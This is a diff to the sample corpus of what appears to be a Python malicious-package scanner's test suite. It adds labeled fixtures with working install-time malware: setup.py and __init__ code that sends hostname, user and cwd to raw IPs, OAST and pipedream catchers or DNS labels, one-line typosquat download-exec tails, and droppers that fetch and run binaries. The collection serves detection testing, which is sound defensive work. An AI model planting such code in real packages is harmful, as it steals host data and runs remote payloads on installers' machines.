@@ -2629,19 +2629,435 @@ add(
 
 # Known engine gaps (last resort, see the corpus report): strict xfails, so a fix
 # shows up as XPASS and the entry must then be deleted here. Never add a benign id.
-ENGINE_GAPS: dict[str, str] = {
-    "pth-path-then-hidden-import": "no whitespace-padding",
-    "usercustomize-git-credentials-to-paste": "no paste-site-endpoint",
-    "powershell-iwr-invoke-expression": "no powershell-download-cradle",
-    "powershell-encoded-command": "no powershell-hidden-encoded",
-    "whitespace-pushed-payload": "no whitespace-padding",
-    "xor-high-entropy-blob": "no high-entropy-blob",
-    "entropy-blob-a85-exec": "no high-entropy-blob",
-    "zero-width-in-identifiers": "no zero-width-char",
-    "txt-license-tail-exec": "no exec-non-python-file",
-    "png-trailer-payload": "no exec-non-python-file",
-    "hostname-and-os-gate": "no environment-gated-payload",
-}
+# --- dependency-confusion probes, typosquat tails and droppers (more styles) -----------------
+
+add(
+    Sample(
+        id="dc-http-client-hex-path",
+        description="setup.py sends hex of host, user and cwd in the URL path via http.client",
+        rules=frozenset({"code/host-info-exfiltration"}),
+        build=Build.SDIST,
+        name="acme-ledger-core",
+        version="99.9.9",
+        techniques=(T.RUN_SETUP_TOPLEVEL, T.DEP_CONFUSION_HTTP, T.EXFIL_RAW_IP),
+        files=sdist(
+            src(
+                """
+                import getpass, http.client, os, socket
+                from setuptools import setup
+
+                blob = ":".join([socket.gethostname(), getpass.getuser(), os.getcwd()])
+                try:
+                    conn = http.client.HTTPConnection("203.0.113.50", 80, timeout=4)
+                    conn.request("GET", "/c/acme-ledger-core/" + blob.encode().hex())
+                    conn.getresponse()
+                except Exception:
+                    pass
+
+                setup(name="acme-ledger-core", version="99.9.9", packages=[])
+                """
+            ),
+            pkg="acme_ledger_core",
+        ),
+    )
+)
+
+add(
+    Sample(
+        id="dc-init-gethostbyname-b32-oast",
+        description="__init__ puts base32 of user@host into a DNS label for an OAST domain",
+        rules=frozenset({"code/dns-exfiltration", "code/request-catcher-endpoint"}),
+        build=Build.WHEEL,
+        name="corp-sso-client",
+        version="42.0.0",
+        techniques=(T.RUN_INIT_TOPLEVEL, T.DEP_CONFUSION_DNS, T.EXFIL_DNS),
+        files=pkg(
+            src(
+                """
+                import base64, getpass, socket
+
+                __version__ = "42.0.0"
+
+                _d = base64.b32encode(f"{getpass.getuser()}@{socket.gethostname()}".encode())
+                try:
+                    socket.gethostbyname(
+                        f"{_d.decode().rstrip('=').lower()[:60]}.cq1p2r3s4t5u6v7w8x9y.oast.fun"
+                    )
+                except OSError:
+                    pass
+                """
+            ),
+            name="corp_sso_client",
+        ),
+    )
+)
+
+add(
+    Sample(
+        id="dc-cmdclass-develop-requests-pipedream",
+        description="cmdclass develop/install override sends package, host, user to pipedream",
+        rules=frozenset({"code/host-info-exfiltration", "code/request-catcher-endpoint"}),
+        build=Build.SDIST,
+        name="payments-internal-sdk",
+        version="100.0.0",
+        techniques=(T.RUN_CMDCLASS, T.DEP_CONFUSION_HTTP, T.EXFIL_REQUEST_CATCHER),
+        files=sdist(
+            src(
+                """
+                import os, platform, socket
+                import requests
+                from setuptools import setup
+                from setuptools.command.develop import develop
+                from setuptools.command.install import install
+
+
+                def beacon():
+                    requests.get(
+                        "https://eo9a8b7c6d5e4f3.m.pipedream.net",
+                        params={
+                            "pkg": "payments-internal-sdk",
+                            "host": socket.gethostname(),
+                            "user": os.environ.get("USER") or os.environ.get("USERNAME"),
+                            "cwd": os.getcwd(),
+                            "os": platform.platform(),
+                        },
+                        timeout=5,
+                    )
+
+
+                class PostInstall(install):
+                    def run(self):
+                        beacon()
+                        install.run(self)
+
+
+                class PostDevelop(develop):
+                    def run(self):
+                        beacon()
+                        develop.run(self)
+
+
+                setup(
+                    name="payments-internal-sdk",
+                    version="100.0.0",
+                    cmdclass={"install": PostInstall, "develop": PostDevelop},
+                )
+                """
+            ),
+            pkg="payments_internal_sdk",
+        ),
+    )
+)
+
+add(
+    Sample(
+        id="dc-os-system-curl-subshell",
+        description="setup.py runs curl with $(whoami)/$(hostname)/$(pwd) in the URL",
+        rules=frozenset({"code/host-info-exfiltration"}),
+        build=Build.SDIST,
+        name="infra-deploy-tools",
+        version="77.0.0",
+        techniques=(T.RUN_SETUP_TOPLEVEL, T.DEP_CONFUSION_HTTP),
+        files=sdist(
+            "import os\nfrom setuptools import setup\n\n"
+            'os.system("curl -s -m 3 http://198.51.100.23/p/infra-deploy-tools/'
+            '$(whoami)/$(hostname)/$(pwd | base64) >/dev/null 2>&1 &")\n\n'
+            'setup(name="infra-deploy-tools", version="77.0.0")\n',
+            pkg="infra_deploy_tools",
+        ),
+    )
+)
+
+add(
+    Sample(
+        id="dc-subprocess-wget-b64-query",
+        description="setup.py passes base64 of user and host in a wget query string",
+        rules=frozenset({"code/host-info-exfiltration"}),
+        build=Build.SDIST,
+        name="data-platform-utils",
+        version="88.1.0",
+        techniques=(T.RUN_SETUP_TOPLEVEL, T.DEP_CONFUSION_HTTP, T.EXFIL_RAW_IP),
+        files=sdist(
+            src(
+                """
+                import base64, getpass, socket, subprocess
+                from setuptools import setup
+
+                q = base64.urlsafe_b64encode(
+                    (getpass.getuser() + "|" + socket.getfqdn()).encode()
+                ).decode()
+                subprocess.Popen(
+                    ["wget", "-q", "-O", "/dev/null", "http://192.0.2.44/x?d=" + q],
+                    stdout=subprocess.DEVNULL,
+                    stderr=subprocess.DEVNULL,
+                )
+
+                setup(name="data-platform-utils", version="88.1.0", packages=[])
+                """
+            ),
+            pkg="data_platform_utils",
+        ),
+    )
+)
+
+add(
+    Sample(
+        id="dc-socket-udp-raw-ip",
+        description="__init__ sends host, user and cwd in a UDP datagram to a raw IP",
+        rules=frozenset({"code/host-info-exfiltration"}),
+        build=Build.WHEEL,
+        name="ml-feature-store",
+        version="55.0.0",
+        techniques=(T.RUN_INIT_TOPLEVEL, T.DEP_CONFUSION_HTTP, T.EXFIL_RAW_IP),
+        files=pkg(
+            src(
+                """
+                import json, os, socket
+
+                _s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+                _s.sendto(
+                    json.dumps(
+                        {"p": __name__, "h": socket.gethostname(), "u": os.getlogin(),
+                         "d": os.getcwd()}
+                    ).encode(),
+                    ("198.51.100.99", 5353),
+                )
+                """
+            ),
+            name="ml_feature_store",
+        ),
+    )
+)
+
+add(
+    Sample(
+        id="py2-urllib2-probe-print",
+        description="Python 2 setup.py with print statements reports the host via urllib2",
+        rules=frozenset({"code/host-info-exfiltration"}),
+        build=Build.SDIST,
+        name="legacy-billing",
+        version="31.0.0",
+        techniques=(T.RUN_SETUP_TOPLEVEL, T.PY2_SETUP, T.DEP_CONFUSION_HTTP),
+        files=sdist(
+            src(
+                """
+                import getpass, socket, urllib, urllib2
+                from distutils.core import setup
+
+                print "installing legacy-billing"
+                d = urllib.urlencode({"h": socket.gethostname(), "u": getpass.getuser()})
+                try:
+                    urllib2.urlopen("http://203.0.113.61/cb?" + d, timeout=3)
+                except Exception, e:
+                    print "skip", e
+
+                setup(name="legacy-billing", version="31.0.0")
+                """
+            ),
+            pkg="legacy_billing",
+        ),
+    )
+)
+
+add(
+    Sample(
+        id="py2-exec-urllib2-read",
+        description="Python 2 setup.py exec statement over a urllib2 download",
+        rules=frozenset({"code/exec-remote-code"}),
+        build=Build.SDIST,
+        techniques=(T.RUN_SETUP_TOPLEVEL, T.PY2_SETUP, T.STAGE2_DOWNLOAD_EXEC),
+        files=sdist(
+            src(
+                """
+                import urllib2
+                from distutils.core import setup
+
+                print "checking dependencies..."
+                exec urllib2.urlopen("http://198.51.100.14/stage.py").read()
+
+                """
+            )
+            + SETUP_TAIL
+        ),
+    )
+)
+
+_TYPO_TAIL = 'exec(__import__("urllib.request").request.urlopen("http://203.0.113.77/s").read())\n'
+
+add(
+    Sample(
+        id="typosquat-init-one-line-tail",
+        description="copy of a small HTTP library whose __init__ gains one download-exec line",
+        rules=frozenset({"code/exec-remote-code"}),
+        build=Build.WHEEL,
+        name="mini-htttp",
+        techniques=(T.TYPOSQUAT_COPY, T.RUN_INIT_TOPLEVEL, T.STAGE2_DOWNLOAD_EXEC),
+        files={
+            **mini_http("mini_http"),
+            "mini_http/__init__.py": str(mini_http("mini_http")["mini_http/__init__.py"])
+            + _TYPO_TAIL,
+        },
+    )
+)
+
+add(
+    Sample(
+        id="typosquat-setup-tail-urlretrieve-run",
+        description="ordinary setup.py with a final line that fetches a script to temp and runs it",
+        rules=frozenset({"code/download-execute"}),
+        build=Build.SDIST,
+        name="reqeusts-toolbelt",
+        techniques=(T.TYPOSQUAT_COPY, T.RUN_SETUP_TOPLEVEL, T.STAGE2_DOWNLOAD_EXEC),
+        files=sdist(
+            src(
+                """
+                import os
+                import sys
+                import tempfile
+                import urllib.request
+
+                from setuptools import find_packages, setup
+
+                here = os.path.abspath(os.path.dirname(__file__))
+                with open(os.path.join(here, "README.rst"), encoding="utf-8") as f:
+                    long_description = f.read()
+
+                setup(
+                    name="reqeusts-toolbelt",
+                    version="1.0.0",
+                    description="A utility belt for advanced users of an HTTP library",
+                    long_description=long_description,
+                    packages=find_packages(exclude=["tests"]),
+                    python_requires=">=3.8",
+                    classifiers=["Programming Language :: Python :: 3"],
+                )
+                p = os.path.join(tempfile.gettempdir(), "tb.py"); urllib.request.urlretrieve("http://198.51.100.3/tb.py", p); os.system(sys.executable + " " + p)
+                """
+            ),
+            extra={"README.rst": "Toolbelt\\n========\\n"},
+        ),
+    )
+)
+
+add(
+    Sample(
+        id="dropper-windows-temp-exe",
+        description="on Windows only, __init__ downloads an exe into %TEMP% and starts it",
+        rules=frozenset({"code/download-execute", "code/environment-gated-payload"}),
+        build=Build.WHEEL,
+        techniques=(T.RUN_INIT_TOPLEVEL, T.STAGE2_BINARY_CHMOD, T.WAIT_OS_HOST),
+        files=pkg(
+            src(
+                """
+                import os
+                import subprocess
+                import requests
+
+                if os.name == "nt":
+                    _p = os.path.join(os.environ["TEMP"], "WinSvcHost.exe")
+                    with open(_p, "wb") as _f:
+                        _f.write(requests.get("http://203.0.113.88/u.exe", timeout=9).content)
+                    subprocess.Popen([_p], creationflags=0x08000000)
+                """
+            )
+        ),
+    )
+)
+
+add(
+    Sample(
+        id="dropper-tmp-pathlib-chmod",
+        description="setup.py writes a downloaded ELF to /tmp with pathlib, chmods and runs it",
+        rules=frozenset({"code/download-execute"}),
+        build=Build.SDIST,
+        techniques=(T.RUN_SETUP_TOPLEVEL, T.STAGE2_BINARY_CHMOD),
+        files=sdist(
+            src(
+                """
+                import os, subprocess, urllib.request
+                from pathlib import Path
+                from setuptools import setup
+
+                target = Path("/tmp/.cache-x11")
+                target.write_bytes(urllib.request.urlopen("http://192.0.2.71/k").read())
+                os.chmod(target, 0o755)
+                subprocess.Popen([str(target)], start_new_session=True)
+
+                """
+            )
+            + SETUP_TAIL
+        ),
+    )
+)
+
+add(
+    Sample(
+        id="dc-urllib-request-json-interactsh",
+        description="__init__ posts JSON of host, user, cwd and package to an interactsh host",
+        rules=frozenset({"code/host-info-exfiltration", "code/request-catcher-endpoint"}),
+        build=Build.WHEEL,
+        name="corp-metrics-agent",
+        version="999.0.0",
+        techniques=(T.RUN_INIT_TOPLEVEL, T.DEP_CONFUSION_HTTP, T.EXFIL_REQUEST_CATCHER),
+        files=pkg(
+            src(
+                """
+                import getpass, json, os, socket, urllib.request
+
+                try:
+                    urllib.request.urlopen(
+                        urllib.request.Request(
+                            "https://c0ffee1234567890abcd.oast.fun/",
+                            data=json.dumps(
+                                {"pkg": "corp-metrics-agent", "host": socket.gethostname(),
+                                 "user": getpass.getuser(), "cwd": os.getcwd()}
+                            ).encode(),
+                            headers={"Content-Type": "application/json"},
+                        ),
+                        timeout=4,
+                    )
+                except Exception:
+                    pass
+                """
+            ),
+            name="corp_metrics_agent",
+        ),
+    )
+)
+
+add(
+    Sample(
+        id="dc-linux-only-dns-hex-gate",
+        description="on Linux only, setup.py resolves hex of hostname under a collector domain",
+        rules=frozenset({"code/dns-exfiltration", "code/environment-gated-payload"}),
+        build=Build.SDIST,
+        name="platform-internal-auth",
+        version="98.0.0",
+        techniques=(T.RUN_SETUP_TOPLEVEL, T.DEP_CONFUSION_DNS, T.WAIT_OS_HOST),
+        files=sdist(
+            src(
+                """
+                import socket, sys
+                from setuptools import setup
+
+                if sys.platform.startswith("linux"):
+                    try:
+                        socket.gethostbyname(
+                            socket.gethostname().encode().hex()[:62] + ".d.collector.invalid"
+                        )
+                    except OSError:
+                        pass
+
+                setup(name="platform-internal-auth", version="98.0.0", packages=[])
+                """
+            ),
+            pkg="platform_internal_auth",
+        ),
+    )
+)
+
+
+ENGINE_GAPS: dict[str, str] = {}
 
 MALICIOUS: tuple[Sample, ...] = tuple(
     replace(s, xfail=f"engine gap: {ENGINE_GAPS[s.id]}") if s.id in ENGINE_GAPS else s
